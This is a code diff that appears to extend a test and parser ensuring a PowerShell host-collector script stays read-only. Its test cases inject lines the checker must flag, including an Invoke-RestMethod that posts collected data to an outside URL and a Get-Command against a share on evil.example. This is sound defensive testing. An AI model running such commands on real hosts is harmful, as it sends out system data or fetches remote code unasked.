@@ -39,7 +39,16 @@ $result = foreach ($t in $texts) {
       })
       $native = [pscustomobject]@{ file = $file; words = $words }
     }
+    # The command as the rule reads it: its name, its parameters, literal words as written, a script block empty (the
+    # commands in it are listed on their own), anything else a plain word.
+    $simple = @($_.CommandElements | ForEach-Object {
+      if ($_ -is [System.Management.Automation.Language.CommandParameterAst]) { '-' + $_.ParameterName + $(if ($_.Argument) { ':x0' } else { '' }) }
+      elseif ($_ -is [System.Management.Automation.Language.StringConstantExpressionAst]) { $_.Extent.Text }
+      elseif ($_ -is [System.Management.Automation.Language.ScriptBlockExpressionAst]) { '{ }' }
+      else { 'x0' }
+    }) -join ' '
     [pscustomobject]@{
+      simple = $simple
       name = $name
       operator = [string]$_.InvocationOperator
       parameters = @($_.CommandElements | Where-Object { $_ -is [System.Management.Automation.Language.CommandParameterAst] } | ForEach-Object { $_.ParameterName })
@@ -58,7 +67,7 @@ ConvertTo-Json -InputObject @($result) -Depth 6 | Set-Content -LiteralPath $Out 
 interface Parts {
   errors: string[];
   functions: string[];
-  commands: { name: string; operator: string; parameters: string[]; native: { file: string; words: string[] } | null; named: string | null }[];
+  commands: { simple: string; name: string; operator: string; parameters: string[]; native: { file: string; words: string[] } | null; named: string | null }[];
   members: string[];
   files: string[];
   assigned: string[];
@@ -84,7 +93,11 @@ function notReading(p: Parts): string[] {
       // Not in the rule's list (a path there, \\host\share\x.ps1, opens a share): here it only asks whether a cmdlet
       // or a program is there, by a name written in the script or Read-Native's (a literal at every call, checked below).
       if (!c.named || !/^(?:[\w-]+|\$File)$/.test(c.named)) found.push(`Get-Command -Name ${c.named ?? '(none)'}`);
-    } else if (!own.has(c.name.toLowerCase()) && !isReadingCommandName(c.name)) found.push(`command: ${c.name}`);
+    } else if (!own.has(c.name.toLowerCase())) {
+      if (!isReadingCommandName(c.name)) found.push(`command: ${c.name}`);
+      // Its parameters as the rule judges a fix's (a web request that posts, a cmdlet's parameter that writes a file).
+      else if (notReadOnly(c.simple, 'powershell')) found.push(`command: ${c.simple} (${notReadOnly(c.simple, 'powershell')!.why})`);
+    }
     for (const param of c.parameters) if (WRITING_PARAMETERS.test(param)) found.push(`parameter: ${c.name} -${param}`);
     if (c.native) {
       // The words Read-Native passes, as the program gets them; the image ids docker image inspect is given are ids.
@@ -118,6 +131,10 @@ describe.skipIf(!PWSH)(`the host collector only reads, as PowerShell's parser re
       "& (Get-Command whoami)",
       "Invoke-Expression 'Restart-Service hns'",
       "Get-Command -Name '\\\\evil.example\\s\\x.ps1' -Syntax",
+      // Found by a reviewer: reading cmdlets with parameters that send, write or install.
+      "Invoke-RestMethod -Uri 'https://example.org/x' -Method Post -Body ($reads | ConvertTo-Json)",
+      "Get-WindowsFeature -Name Containers -LogPath 'C:\\x.log'",
+      "Get-PackageProvider -Name NuGet -ForceBootstrap",
     ];
     const texts = [collector, ...changes.map((c) => collector.replace(read, `${read}\n${c}`))];
     const dir = mkdtempSync(path.join(os.tmpdir(), 'wcd-collector-ro-'));
